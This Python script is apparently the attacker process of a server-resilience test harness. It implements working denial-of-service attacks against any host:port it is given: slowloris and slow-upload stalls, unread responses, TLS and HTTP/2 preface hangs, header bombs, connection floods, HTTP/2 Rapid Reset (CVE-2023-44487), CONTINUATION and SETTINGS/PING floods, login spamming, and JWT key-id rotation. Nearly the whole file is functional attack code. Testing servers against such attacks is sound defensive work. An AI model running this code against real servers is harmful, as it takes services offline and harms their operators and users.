"""What an attacker does to a listener, in a process of its own, so that it does not slow the clients that are measured.

Run with the kind of attack, `host:port`, and how many connections. Says `ready` once all is under way, goes on until its input is
closed, and then says in JSON what came of it: connections `opened`, `ended` and `refused`, and the `peak` of those open at once.
`sink`, with how many connections, is no attack but a listener that takes anything: what the attack itself costs the machine shows
there. Either says in place of its first word what keeps it from starting.
"""

import asyncio
import base64
import json
import os
import random
import re
import resource
import socket
import ssl
import struct
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Of its own, so that the application's record tells this from the requests of others.
PATH = b"/public/attack"
GET = b"GET " + PATH + b" HTTP/1.1\r\nHost: a\r\n"
HALF_HEAD = GET + b"X-Slow: "
WHOLE = GET + b"\r\n"
# Answered without the application, whose time is not what is measured.
REFUSED = b"GET /attack HTTP/1.1\r\nHost: a\r\n\r\n"
LENGTH = re.compile(rb"(?i)\r\ncontent-length: *(\d+)")
# A header block in static and literal fields only: :method GET, :scheme http, :path, :authority a.
HEADERS = bytes([0x82, 0x86, 0x04, len(PATH)]) + PATH + bytes([0x01, 1]) + b"a"
# One for all: the CAs of the system, which would be read each time, are not needed for a hello.
CLIENT = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
# Kinds that keep as many connections as they are told; the others do much on a few.
STAY_AWAY = ("idle", "silent", "reader", "window", "upload")
HELD = ("head", "second", "hello", "preface", "logins", *STAY_AWAY)


class Attack:
    def __init__(self, kind, address, count):
        self.kind, self.count = kind, count
        self.host, port = address.rsplit(":", 1)
        self.port = int(port)
        self.tally = {"opened": 0, "ended": 0, "refused": 0, "peak": 0}
        self.open = 0

    async def run(self):
        one = getattr(self, self.kind)
        workers = self.count if self.kind in HELD else 8
        started = [asyncio.Event() for _ in range(workers)]
        self.tasks = [asyncio.create_task(self.again_and_again(one, event)) for event in started]
        for event in started:
            await event.wait()
        print("ready", flush=True)
        await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
        print(json.dumps(self.tally), flush=True)
        # Not by cancelling: some versions of `wait_for` swallow that, and a thousand sockets need no farewell.
        os._exit(0)

    async def again_and_again(self, one, event):
        while True:
            try:
                reader, writer = await self.connect()
            except OSError:
                event.set()
                await asyncio.sleep(0.05)
                continue
            try:
                await one(reader, writer, event)
            except (OSError, EOFError, asyncio.IncompleteReadError):
                pass
            finally:
                self.leave(writer)
                event.set()
            if self.kind in STAY_AWAY:
                # Who was shown the door stays away: what is left open is what is counted.
                await asyncio.Event().wait()
            await asyncio.sleep(0.05)

    async def connect(self):
        try:
            connection = await asyncio.open_connection(self.host, self.port)
        except OSError:
            self.tally["refused"] += 1
            raise
        self.tally["opened"] += 1
        self.open += 1
        self.tally["peak"] = max(self.tally["peak"], self.open)
        return connection

    def leave(self, writer):
        self.tally["ended"] += 1
        self.open -= 1
        writer.close()

    async def until_closed(self, reader, writer, event, dribble=b""):
        event.set()
        while True:
            try:
                # Not `wait_for`, which in Python 3.11 can lose the cancellation that ends all this.
                async with asyncio.timeout(1):
                    if not await reader.read(4096):
                        return
            except TimeoutError:
                writer.write(dribble)
                await writer.drain()

    async def logins(self, reader, writer, event):
        """One login after the other; who is told to wait does, and a little longer, so that they do not come back in step."""
        body = b"username=johndoe&password=secret"
        request = b"POST /token HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n" % len(body)
        while True:
            writer.write(request + body)
            event.set()
            head = await reader.readuntil(b"\r\n\r\n")
            await reader.readexactly(int(LENGTH.search(head)[1]))
            status = head.split(b" ", 2)[1].decode()
            self.tally[status] = self.tally.get(status, 0) + 1
            if status != "200":
                await asyncio.sleep(int(re.search(rb"(?i)\r\nretry-after: *(\d+)", head)[1]) + random.random())

    async def head(self, reader, writer, event):
        writer.write(HALF_HEAD)
        await self.until_closed(reader, writer, event, b"x")

    async def second(self, reader, writer, event):
        writer.write(REFUSED)
        await reader.readuntil(b"}")
        writer.write(HALF_HEAD)
        await self.until_closed(reader, writer, event, b"x")

    async def hello(self, reader, writer, event):
        client, server = ssl.MemoryBIO(), ssl.MemoryBIO()
        tls = CLIENT.wrap_bio(client, server, server_hostname="localhost")
        try:
            tls.do_handshake()
        except ssl.SSLWantReadError:
            pass
        writer.write(server.read()[:60])
        await self.until_closed(reader, writer, event)

    async def preface(self, reader, writer, event):
        writer.write(PREFACE[:12])
        await self.until_closed(reader, writer, event)

    async def silent(self, reader, writer, event):
        await self.until_closed(reader, writer, event)

    async def idle(self, reader, writer, event):
        writer.write(REFUSED)
        await reader.readuntil(b"}")
        await self.until_closed(reader, writer, event)

    async def reader(self, reader, writer, event):
        """Asks for much, and reads none of it."""
        writer.transport.pause_reading()
        # Set by hand it does not grow, and what is not read stays with the server.
        writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        writer.write(WHOLE)
        event.set()
        await asyncio.Event().wait()

    async def window(self, reader, writer, event):
        """The same over HTTP/2, by an initial window of nothing."""
        writer.write(PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 0)) + frame(1, 0x5, 1, HEADERS))
        await self.until_closed(reader, writer, event)

    async def upload(self, reader, writer, event):
        """Announces a body, and sends next to nothing of it."""
        writer.write(b"POST" + GET[3:] + b"Content-Length: 1000000\r\n\r\n" + b"u" * 10)
        await self.until_closed(reader, writer, event)

    async def bomb(self, reader, writer, event):
        """As many header fields as will go."""
        event.set()
        writer.write(GET)
        for _ in range(1024):
            writer.write(b"X-Bomb: " + b"b" * 1000 + b"\r\n")
            await sent(writer)
            if reader.at_eof():
                return
        await reader.read()

    async def many(self, reader, writer, event):
        """A million header fields of next to nothing."""
        event.set()
        writer.write(GET)
        for _ in range(1024):
            writer.write(b"a:\r\n" * 256)
            await sent(writer)
            if reader.at_eof():
                return
        await reader.read()

    async def flood(self, reader, writer, event):
        """Connections that are closed as soon as they are there, without the usual pause."""
        event.set()
        for _ in range(50):
            _, other = await self.connect()
            self.leave(other)

    async def malformed(self, reader, writer, event):
        """Something where a token should be, again and again."""
        await self.tokens(reader, writer, event, lambda: "a.b.c")

    async def kids(self, reader, writer, event):
        """The token that ATTACK_TOKEN has, under a key id of its own each time."""
        header, *rest = os.environ["ATTACK_TOKEN"].split(".")
        header = json.loads(base64.urlsafe_b64decode(header + "=" * (-len(header) % 4)))

        def token():
            named = json.dumps(header | {"kid": os.urandom(16).hex()}).encode()
            return ".".join([base64.urlsafe_b64encode(named).rstrip(b"=").decode(), *rest])

        await self.tokens(reader, writer, event, token)

    async def tokens(self, reader, writer, event, token):
        """As many a second as ATTACK_RATE says, or as go; the tally has how often each status was the answer."""
        event.set()
        rate = float(os.environ.get("ATTACK_RATE", "inf")) / 8
        while True:
            writer.write(REFUSED[:-2] + b"Authorization: Bearer " + token().encode() + b"\r\n\r\n")
            head = await reader.readuntil(b"\r\n\r\n")
            await reader.readexactly(int(LENGTH.search(head)[1]))
            status = head.split(b" ")[1].decode()
            self.tally[status] = self.tally.get(status, 0) + 1
            # Independent of each other, as clients are: in step they would be a burst of eight every few milliseconds.
            await asyncio.sleep(random.expovariate(rate))

    async def reset(self, reader, writer, event):
        """Requests that are taken back at once (CVE-2023-44487)."""
        event.set()
        writer.write(PREFACE + frame(4, 0, 0, b""))
        asyncio.get_running_loop().create_task(self.swallow(reader))
        stream = 1
        while stream < 2**30:
            pairs = b""
            for _ in range(50):
                pairs += frame(1, 0x5, stream, HEADERS) + frame(3, 0, stream, struct.pack(">I", 8))
                stream += 2
            writer.write(pairs)
            self.tally["resets"] = self.tally.get("resets", 0) + 50
            await sent(writer)
            if reader.at_eof():
                return

    async def continuation(self, reader, writer, event):
        """A header block that never ends."""
        event.set()
        writer.write(PREFACE + frame(4, 0, 0, b"") + frame(1, 0x1, 1, HEADERS))
        asyncio.get_running_loop().create_task(self.swallow(reader))
        while not reader.at_eof():
            # A literal field without indexing, again and again.
            writer.write(frame(9, 0, 1, b"\x00\x01x\x7f\x81\x07" + b"y" * 1024) * 4)
            await sent(writer)

    async def settings(self, reader, writer, event):
        """SETTINGS and PING, each of which wants an answer."""
        event.set()
        writer.write(PREFACE + frame(4, 0, 0, b""))
        asyncio.get_running_loop().create_task(self.swallow(reader))
        while not reader.at_eof():
            writer.write((frame(4, 0, 0, b"") + frame(6, 0, 0, b"pingpong")) * 50)
            await sent(writer)

    async def swallow(self, reader):
        try:
            while await reader.read(65536):
                pass
        except OSError:
            pass


async def sent(writer):
    """`drain` alone lets nobody else run as long as the kernel takes all: not the other attackers, and not who waits for `ready`."""
    await writer.drain()
    await asyncio.sleep(0)


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


async def sink():
    async def take(reader, writer):
        answered = False
        while await reader.read(65536):
            if not answered:
                writer.write(b"HTTP/1.1 404 Not Found\r\nContent-Length: 2\r\n\r\n{}")
                answered = True

    server = await asyncio.start_server(take, "127.0.0.1", 0)
    print("127.0.0.1:%d" % server.sockets[0].getsockname()[1], flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    os._exit(0)


def need_descriptors(count):
    """As many open files as are allowed, or the end with a word why."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    # What the interpreter and the loop have open themselves.
    if hard != resource.RLIM_INFINITY and hard < count + 64:
        print(f"{count} connections need more than the {hard} open files that are allowed: raise the limit (ulimit -Hn)", flush=True)
        sys.exit(1)


if __name__ == "__main__":
    need_descriptors(int(sys.argv[-1]))
    if sys.argv[1] == "sink":
        asyncio.run(sink())
    asyncio.run(Attack(sys.argv[1], sys.argv[2], int(sys.argv[3])).run())
